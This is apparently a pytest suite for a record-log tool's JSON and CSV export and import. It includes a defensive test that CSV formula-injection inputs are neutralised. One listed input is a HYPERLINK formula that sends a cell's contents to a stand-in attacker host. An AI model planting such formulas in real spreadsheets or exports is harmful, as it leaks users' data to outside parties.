"""A station that logged offline exports its records and a central database imports them;
an auditor exports CSV. Import checks everything first and is idempotent by id."""

from __future__ import annotations

import csv
import io
import json

from .conftest import Log, record


def write_jsonl(path, records):
    path.write_text("".join(json.dumps(r) + "\n" for r in records), encoding="utf-8")
    return path


def test_export_then_import_into_a_central_log_merges_and_verifies(log, other_db_url, tmp_path):
    for unit in ("U1", "U2", "U3"):
        log.handover(unit=unit)
    exported = log.run("log", "export", "-o", str(tmp_path / "station.jsonl"))
    assert exported.exit_code == 0, exported.output
    assert "exported 3 records" in exported.stderr

    central = Log(other_db_url)
    central.handover(unit="HQ")
    result = central.run("log", "import", str(tmp_path / "station.jsonl"))
    assert result.exit_code == 0, result.output
    assert result.stdout.split() == log.ids()  # each added id, in file order
    assert "imported 3 records, 0 already present" in result.stderr
    assert central.count() == 4
    assert central.run("log", "verify").stdout.startswith("ok: 4 records")

    # The station's records arrive unchanged (their chain fields are the central log's own).
    station = [json.loads(line) for line in log.run("log", "export").stdout.splitlines()]
    merged = [json.loads(line) for line in central.run("log", "export").stdout.splitlines()]
    assert merged[1:] == station


def test_importing_the_same_file_twice_adds_nothing(log, tmp_path):
    path = write_jsonl(tmp_path / "station.jsonl", [record(), record(), record()])
    assert log.run("log", "import", str(path)).exit_code == 0
    again = log.run("log", "import", str(path))
    assert again.exit_code == 0, again.output
    assert again.stdout == ""
    assert "imported 0 records, 3 already present" in again.stderr
    assert log.count() == 3
    assert log.run("log", "verify").exit_code == 0


def test_a_file_that_overlaps_the_log_adds_only_what_is_new(log, tmp_path):
    first, second, third = record(), record(), record()
    log.run("log", "import", str(write_jsonl(tmp_path / "a.jsonl", [first, second])))
    result = log.run("log", "import", str(write_jsonl(tmp_path / "b.jsonl",
                                                      [second, third, third])))
    assert result.exit_code == 0, result.output
    assert result.stdout.split() == [third["id"]]
    assert log.ids() == [first["id"], second["id"], third["id"]]


def test_an_id_already_in_the_log_with_other_content_is_refused(log, tmp_path):
    original = record()
    log.run("log", "import", str(write_jsonl(tmp_path / "a.jsonl", [original])))
    changed = dict(original, assessment="victim", residence_status="legal")
    result = log.run("log", "import", str(write_jsonl(tmp_path / "b.jsonl",
                                                      [record(), changed])))
    assert result.exit_code == 2
    assert ":2: field 'id'" in result.output and "different content" in result.output
    assert log.count() == 1


def test_corrections_are_imported_after_what_they_correct(log, tmp_path):
    original = record()
    correction = record(amends=original["id"], leaflet_language="am")
    path = write_jsonl(tmp_path / "ok.jsonl", [original, correction])
    assert log.run("log", "import", str(path)).exit_code == 0
    shown = json.loads(log.run("log", "show", original["id"]).stdout)
    assert shown["amended_by"] == [correction["id"]]

    orphan = record(amends=record()["id"])
    result = log.run("log", "import", str(write_jsonl(tmp_path / "bad.jsonl", [orphan])))
    assert result.exit_code == 2
    assert ":1: field 'amends'" in result.output
    assert log.count() == 2


def test_an_export_with_chain_fields_imports_too(log, other_db_url, tmp_path):
    log.handover()
    log.handover(unit="U2")
    path = tmp_path / "chain.jsonl"
    path.write_text(log.run("log", "export", "--with-chain").stdout, encoding="utf-8")
    assert '"prev_hash"' in path.read_text()
    central = Log(other_db_url)
    result = central.run("log", "import", str(path))
    assert result.exit_code == 0, result.output
    assert central.ids() == log.ids()


def test_import_reads_stdin(log, tmp_path):
    lines = json.dumps(record()) + "\n"
    result = log.run("log", "import", "-", input=lines)
    assert result.exit_code == 0, result.output
    assert log.count() == 1


def test_exports_are_canonical_and_repeatable(log):
    log.handover()
    log.handover(person_language=["ar-MA", "fr"], leaflet_language="fr")
    first = log.run("log", "export").stdout
    assert first == log.run("log", "export").stdout
    for line in first.splitlines():
        data = json.loads(line)
        assert line == json.dumps(data, sort_keys=True, separators=(",", ":"),
                                  ensure_ascii=False)


def test_csv_export_for_a_spreadsheet(log, tmp_path):
    from leaflet.duties.record import FIELDS

    log.handover(person_language=["ar-MA", "fr"], leaflet_language="fr")
    log.handover(leaflet="not_given", leaflet_language=None, not_given_reason="other",
                 note='said "later", in Dutch', centre_action="none", centre=None)
    result = log.run("log", "export", "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert list(rows[0]) == list(FIELDS)
    assert rows[0]["person_languages"] == "ar-MA fr"
    assert rows[0]["foreigners_dept_informed"] == ""
    assert rows[1]["not_given_note"] == 'said "later", in Dutch'
    assert rows[1]["centre"] == ""

    chained = log.run("log", "export", "--format", "csv", "--with-chain", "-o",
                      str(tmp_path / "log.csv"))
    assert chained.exit_code == 0
    header = (tmp_path / "log.csv").read_text().splitlines()[0]
    assert header.endswith("seq,recorded_at,prev_hash,hash")


def test_export_of_a_period(log):
    log.handover(occurred_at="2025-11-30T10:00:00+01:00")
    log.handover(occurred_at="2025-12-02T10:00:00+01:00")
    result = log.run("log", "export", "--from", "2025-12-01")
    assert [json.loads(line)["occurred_at"] for line in result.stdout.splitlines()] == [
        "2025-12-02T10:00:00+01:00"]


def test_an_empty_file_is_refused(log, tmp_path):
    path = tmp_path / "empty.jsonl"
    path.write_text("\n", encoding="utf-8")
    result = log.run("log", "import", str(path))
    assert result.exit_code == 2
    assert "holds no records" in result.output


def _doc_blocks(fence: str) -> list[str]:
    from .conftest import ROOT

    text = (ROOT / "docs" / "log-format.md").read_text(encoding="utf-8")
    return [block.split("\n", 1)[1] for block in text.split("```")[1::2]
            if block.startswith(fence)]


def test_the_worked_example_in_the_format_doc_holds():
    import hashlib

    from leaflet.storage.chain import canonical_json

    plain = [block.strip() for block in _doc_blocks("\n")]
    document = next(b for b in plain if b.startswith('{"amends"'))
    digest = plain[plain.index(document) + 1]
    assert canonical_json(json.loads(document)).decode() == document
    assert hashlib.sha256(("0" * 64 + document).encode()).hexdigest() == digest


def test_the_format_doc_checks_an_export_without_leaflet(log, tmp_path, monkeypatch):
    for unit in ("U1", "U2", "U3"):
        log.handover(unit=unit, note=None)
    log.handover(leaflet="refused", leaflet_language=None, note="«pas maintenant» — 以后")
    (tmp_path / "log.jsonl").write_text(log.run("log", "export", "--with-chain").stdout,
                                        encoding="utf-8")
    snippet = next(b for b in _doc_blocks("python") if "hashlib" in b)
    monkeypatch.chdir(tmp_path)
    printed = io.StringIO()
    monkeypatch.setattr("sys.stdout", printed)
    exec(snippet, {})
    head = log.run("log", "verify").stdout.split()[-1]
    assert printed.getvalue().strip() == f"ok, head {head}"


# --- spreadsheet-safe CSV, read back exactly ------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?q="&A1,"click")', "@SUM(A1:A9)", "+32 78 05",
            "-2+3", "'quoted already", "＝１＋１", "＠home", "plain words"]


def test_csv_cells_a_spreadsheet_would_evaluate_are_neutralised(log, tmp_path):
    pattern_ws = tmp_path / "ws"
    from .conftest import make_workspace

    make_workspace(pattern_ws, pattern=r"^[^\s].{0,39}$")
    for note in FORMULAS:
        result = log.run("--workspace", str(pattern_ws), "handover", *_refused(note),
                         "--case-ref", "=1+1" if note.startswith("=") else "-A1")
        assert result.exit_code == 0, result.output
    result = log.run("log", "export", "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    notes = [row["not_given_note"] for row in rows]
    assert notes[:7] == ["'" + note for note in FORMULAS[:7]]
    assert notes[7] == "plain words"
    assert {row["case_ref"] for row in rows} == {"'=1+1", "'-A1"}
    for row in rows:  # no cell a spreadsheet evaluates
        assert not any(cell[:1] in "=+-@\t\r＝＋－＠" for cell in row.values() if cell)


def _refused(note: str) -> list[str]:
    from .conftest import GOOD, options

    fields = dict(GOOD, leaflet="refused", **{"leaflet-language": None, "note": note})
    fields["occurred-at"] = GOOD["occurred-at"]
    return options(fields)


def test_a_csv_export_imports_back_unchanged(log, other_db_url, tmp_path):
    from .conftest import make_workspace

    ws = make_workspace(tmp_path / "ws", pattern=r"^[^\s].{0,39}$")
    for note in FORMULAS:
        assert log.run("--workspace", str(ws), "handover", *_refused(note),
                       "--case-ref", "@ref").exit_code == 0
    log.handover(person_language=["ar-MA", "fr"], leaflet_language="fr",
                 foreigners_dept_informed=True)
    path = tmp_path / "log.csv"
    assert log.run("log", "export", "--format", "csv", "--with-chain", "-o",
                   str(path)).exit_code == 0
    central = Log(other_db_url)
    result = central.run("--workspace", str(ws), "log", "import", str(path))
    assert result.exit_code == 0, result.output
    assert "imported 9 records" in result.stderr
    assert central.run("log", "export").stdout == log.run("log", "export").stdout
    again = central.run("--workspace", str(ws), "log", "import", "--format", "csv", "-",
                        input=path.read_text(encoding="utf-8"))
    assert again.exit_code == 0 and "9 already present" in again.stderr


def test_a_csv_with_another_header_is_refused(log, tmp_path):
    path = tmp_path / "sheet.csv"
    path.write_text("id,name\n1,Jan\n", encoding="utf-8")
    result = log.run("log", "import", str(path))
    assert result.exit_code == 2
    assert f"{path}:1: the header is not the log's: column 'name'" in result.output
    assert log.count() == 0


# --- JSON Lines: split on "\n" only, one object per line ------------------------------------

def test_a_line_separator_inside_a_string_does_not_split_the_line(log, tmp_path):
    """JSON writes U+2028 as itself; splitlines() would cut the line there and report
    "not JSON" on two half lines. The line is one line, and its note is refused by name."""
    path = tmp_path / "station.jsonl"
    bad = record(leaflet="refused", leaflet_language=None, leaflet_edition=None,
                 not_given_note="later\u2028today")
    path.write_text(json.dumps(record()) + "\n" + json.dumps(bad, ensure_ascii=False) + "\n"
                    + json.dumps(record()) + "\r\n", encoding="utf-8")
    result = log.run("log", "import", str(path))
    assert result.exit_code == 2
    assert f"{path}:2: field 'not_given_note'" in result.output and "U+2028" in result.output
    assert "1 bad line(s) (2)" in result.output


def test_a_repeated_field_is_refused(log, tmp_path):
    path = tmp_path / "station.jsonl"
    line = json.dumps(record())[:-1] + ', "unit": "PZ-1"}'
    path.write_text(line + "\n", encoding="utf-8")
    result = log.run("log", "import", str(path))
    assert result.exit_code == 2
    assert "field 'unit' appears twice" in result.output


def test_bytes_that_are_not_utf8_are_named_by_line(log, tmp_path):
    path = tmp_path / "station.jsonl"
    path.write_bytes(json.dumps(record()).encode() + b"\n" + b'{"unit": "\xff"}\n')
    result = log.run("log", "import", str(path))
    assert result.exit_code == 2
    assert f"{path}:2: not UTF-8" in result.output
    result = log.run("log", "import", "-", input=b"\xfe\xff{}\n")
    assert result.exit_code == 2 and "-:1: not UTF-8" in result.output
    assert log.count() == 0
